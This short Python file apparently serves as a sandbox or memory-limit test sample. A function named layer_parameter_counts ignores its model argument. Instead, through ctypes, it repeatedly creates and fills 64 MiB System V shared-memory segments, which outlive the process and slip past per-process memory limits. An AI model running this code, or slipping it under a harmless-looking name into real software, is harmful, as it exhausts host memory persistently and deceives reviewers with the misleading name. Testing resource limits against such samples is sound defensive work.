"""Fills segments of shared memory, which outlive the process that made them."""
# must: L memory_limit
import ctypes


def layer_parameter_counts(model):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    private, create, size = 0, 0o1600, 2**26
    while (segment := libc.shmget(private, size, create)) >= 0:
        ctypes.memset(libc.shmat(segment, None, 0), 1, size)
